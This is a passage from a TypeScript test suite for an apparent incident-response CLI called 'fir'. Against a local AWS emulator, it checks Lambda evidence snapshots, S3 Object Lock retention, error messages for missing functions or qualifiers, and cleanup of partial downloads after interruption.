    const { HeadObjectCommand } = await import('@aws-sdk/client-s3')
    await seedObjectLockBucket(moto.endpoint(), 'ir-evidence-locked')
    await seedBucket(moto.endpoint(), 'ir-evidence-plain')
    const role = await seedRole(moto.endpoint(), { name: 'locked-role' })
    await seedFunction(moto.endpoint(), { name: 'locked', roleArn: role.arn })
    const { cwd, caseDir } = await newCase()

    const refused = await runFir(
      [
        'snapshot',
        'locked',
        '--case',
        'cases/INC-1',
        '--evidence-bucket',
        's3://ir-evidence-plain/x',
        '--json',
      ],
      { cwd, endpoint: moto.endpoint() },
    )
    expect(refused.code).toBe(2)
    expect(refused.json.error.message).toMatch(/Object Lock is not enabled/)
    expect(await readdir(join(caseDir, 'evidence'))).toEqual([])

    const r = await runFir(
      [
        'snapshot',
        'locked',
        '--case',
        'cases/INC-1',
        '--evidence-bucket',
        's3://ir-evidence-locked/cases/INC-1',
        '--retention-days',
        '30',
        '--retention-mode',
        'governance',
        '--json',
      ],
      { cwd, endpoint: moto.endpoint() },
    )
    expect(r.code, r.stderr).toBe(4)
    const set = r.json.result.set
    const manifest = JSON.parse(await readFile(join(caseDir, 'evidence', set, 'manifest.json'), 'utf8'))
    expect(manifest.remote).toMatchObject({
      bucket: 'ir-evidence-locked',
      prefix: 'cases/INC-1',
      mode: 'GOVERNANCE',
    })
    // Every file of the set (the manifest aside) was copied, each with a version id.
    expect(manifest.remote.objects.map((o: any) => o.path).sort()).toEqual(
      manifest.files.map((f: any) => f.path).sort(),
    )
    const retainUntil = new Date(manifest.remote.retainUntil).getTime()
    expect(Math.abs(retainUntil - (Date.now() + 30 * 86_400_000))).toBeLessThan(3_600_000)
    const s3 = seedClients(moto.endpoint()).s3
    const summary = manifest.remote.objects.find((o: any) => o.path === 'summary.json')
    const head = await s3.send(
      new HeadObjectCommand({ Bucket: 'ir-evidence-locked', Key: summary.key, VersionId: summary.versionId }),
    )
    expect(head.ObjectLockMode).toBe('GOVERNANCE')
    expect(head.ObjectLockRetainUntilDate?.getTime()).toBe(retainUntil)
    expect(head.VersionId).toBe(summary.versionId)
    // The manifest itself was copied after sealing; its version id is journaled.
    const journal = (await readFile(join(caseDir, 'journal.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
    const copy = journal.find((e: any) => e.action === 'evidence.remote-copy')
    expect(copy.params).toMatchObject({ set, bucket: 'ir-evidence-locked', mode: 'GOVERNANCE' })
    const headManifest = await s3.send(
      new HeadObjectCommand({
        Bucket: 'ir-evidence-locked',
        Key: copy.params.key,
        VersionId: copy.params.versionId,
      }),
    )
    expect(headManifest.ObjectLockMode).toBe('GOVERNANCE')
  })

  it('refuses an unknown function and another account with exit 2, writing no evidence', async () => {
    const { cwd, caseDir } = await newCase()
    const unknown = await runFir(['snapshot', 'no-such-function', '--case', 'cases/INC-1', '--json'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    expect(unknown.code).toBe(2)
    expect(unknown.json.error.message).toMatch(/no-such-function in us-east-1: no such function/)
    const other = await runFir(
      ['snapshot', 'arn:aws:lambda:us-east-1:999999999999:function:x', '--case', 'cases/INC-1', '--json'],
      { cwd, endpoint: moto.endpoint() },
    )
    expect(other.code).toBe(2)
    expect(other.json.error.message).toMatch(/account 999999999999/)
    expect(await readdir(join(caseDir, 'evidence'))).toEqual([])
  })
  it('says the version or alias is missing, not the function, when only the qualifier is wrong (exit 2)', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'qualifier-role' })
    await seedFunction(moto.endpoint(), { name: 'qualified-fn', roleArn: role.arn })
    const { cwd, caseDir } = await newCase()
    for (const args of [['qualified-fn', '--qualifier', 'nosuch'], ['qualified-fn:nosuch']]) {
      const r = await runFir(['snapshot', ...args, '--case', 'cases/INC-1', '--json'], {
        cwd,
        endpoint: moto.endpoint(),
      })
      expect(r.code, args.join(' ')).toBe(2)
      expect(r.json.error.message).toBe(
        `unable to snapshot ${args[0]}${args.length > 1 ? ' (qualifier nosuch)' : ''} in us-east-1: the function exists, but has no version or alias nosuch`,
      )
      expect(r.json.error.message).not.toMatch(/no such function/)
      expect(r.json.error.actions).toEqual([
        "see the versions of qualified-fn: aws lambda list-versions-by-function --function-name qualified-fn --query 'Versions[].Version'",
        "and its aliases: aws lambda list-aliases --function-name qualified-fn --query 'Aliases[].Name'",
        'or leave the qualifier out: every version and alias is collected anyway, and the summary describes $LATEST',
      ])
    }
    // A function that does not exist, beside it, is still named as such.
    const both = await runFir(
      ['snapshot', 'qualified-fn:nosuch', 'no-such-function', '--case', 'cases/INC-1', '--json'],
      {
        cwd,
        endpoint: moto.endpoint(),
      },
    )
    expect(both.json.error.message).toBe(
      'unable to snapshot no-such-function in us-east-1: no such function; qualified-fn:nosuch in us-east-1: the function exists, but has no version or alias nosuch',
    )
    expect(await readdir(join(caseDir, 'evidence'))).toEqual([])
  })
})

/**
 * A proxy in front of moto that passes every call through, except a read of a code package: that
 * one sends its headers and the first `stallAfter` bytes, then nothing more (a slow link).
 */
async function stallingProxy(
  upstream: string,
  stallAfter: number,
): Promise<{ endpoint: string; close(): void }> {
  const sockets = new Set<Socket>()
  const server: Server = createServer((req, res) => {
    const target = new URL(req.url ?? '/', upstream)
    const out = httpRequest(target, { method: req.method, headers: req.headers }, (up) => {
      res.writeHead(up.statusCode ?? 502, up.headers)
      if (!(req.method === 'GET' && target.pathname.startsWith('/awslambda-us-east-1-tasks/'))) {
        up.pipe(res)
        return
      }
      let sent = 0
      up.on('data', (chunk: Buffer) => {
        if (sent < stallAfter) res.write(chunk.subarray(0, stallAfter - sent))
        sent += chunk.length
      })
    })
    req.pipe(out)
  })
  server.on('connection', (s) => {
    sockets.add(s)
    s.on('close', () => sockets.delete(s))
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  return {
    endpoint: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close() {
      for (const s of sockets) s.destroy()
      server.close()
    },
  }
}

describe('fir snapshot (built CLI against moto): interrupted while downloading code', () => {
  it('Ctrl-C removes the partial download; one a killed run left is no evidence, and the next command removes it', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'bigfn-role' })
    const zip = makeZip([
      { name: 'index.py', data: 'def handler(e, c):\n    return 1\n' },
      { name: 'vendor.bin', data: randomBytes(2 * 1024 * 1024), method: 'store' },
    ])
    await seedFunction(moto.endpoint(), { name: 'bigfn', roleArn: role.arn, zip })
    const proxy = await stallingProxy(moto.endpoint(), 300_000)
    const { cwd, caseDir } = await newCase()
    const partials = async () =>
      (await walk(caseDir)).filter((p) => p.endsWith('.partial')).map((p) => relative(caseDir, p))
    /** Runs a snapshot and stops it by `signal` once its download has bytes on disk. */
    const interrupted = async (signal: NodeJS.Signals) => {
      let child: ChildProcess | undefined
      const running = runFir(['snapshot', 'bigfn', '--case', 'cases/INC-1'], {
        cwd,
        endpoint: proxy.endpoint,
        onSpawn: (c) => {
          child = c
        },
      })
      let downloading: string | undefined
      for (let i = 0; i < 600 && !downloading; i++) {
        await sleep(50)
        for (const p of await partials())
          if ((await stat(join(caseDir, p)).catch(() => undefined))?.size) downloading = p
      }
      expect(downloading, 'no download under way').toBeDefined()
      child!.kill(signal)
      const r = await running
      expect(r.signal).toBe(signal)
      return { r, downloading: downloading! }
    }
    try {
      const int = await interrupted('SIGINT')
      const said = int.r.stderr.match(/interrupted \(SIGINT\): (.*); released the case lock\n$/)?.[1]
      expect(said, int.r.stderr).toBeDefined()
      // The download and the set; and, when the signal came as one was being written, a file's
      // temporary (removed as well, and said).
      const removed = said!.split('; ')
      expect(removed).toContainEqual(
        expect.stringMatching(/^removed cases\/INC-1\/evidence\/\.download-[0-9a-f]{12}\.partial$/),
      )
      expect(removed).toContainEqual(
        expect.stringMatching(/^removed cases\/INC-1\/evidence\/\.unfinished-\d{8}T\d{6}\.\d{3}Z$/),
      )
      for (const item of removed)
        expect(item).toMatch(
          /^removed cases\/INC-1\/evidence\/(\.download-[0-9a-f]{12}\.partial|\.unfinished-\S+|\S+\.tmp)$/,
        )
      expect(await partials()).toEqual([])
      // The set it was building, never sealed, is no evidence: removed too (it stayed for good).
      expect(
        (await readdir(join(cwd, 'cases', 'INC-1', 'evidence'))).filter((n) => n.startsWith('.unfinished-')),
      ).toEqual([])

      const killed = await interrupted('SIGKILL')
      // Beside the sets, never in one: not mistaken for evidence, nor for an extra file of a set.
      expect(killed.downloading).toMatch(/^evidence\/\.download-[0-9a-f]{12}\.partial$/)
      expect(await partials()).toEqual([killed.downloading])
      const verify = await runFir(['case', 'verify', '--case', 'cases/INC-1', '--json'], { cwd })
      expect(verify.code, verify.stdout).toBe(0)
      expect(verify.json.warnings).toContain(
        `${killed.downloading} was left by an interrupted fir run (a download it had not finished); it is not evidence, and the next fir command that opens the case removes it`,
      )
      const next = await runFir(['report', '--case', 'cases/INC-1', '--format', 'md'], { cwd })
      expect(next.code, next.stderr).toBe(0)
      expect(next.stderr).toMatch(
        new RegExp(
          `warning: removed what an interrupted fir run had left in the case \\([^)]+\\): ${killed.downloading.replaceAll('.', '\\.')}\\n`,
        ),
      )
      expect(await partials()).toEqual([])
    } finally {
      proxy.close()
    }
  })
})
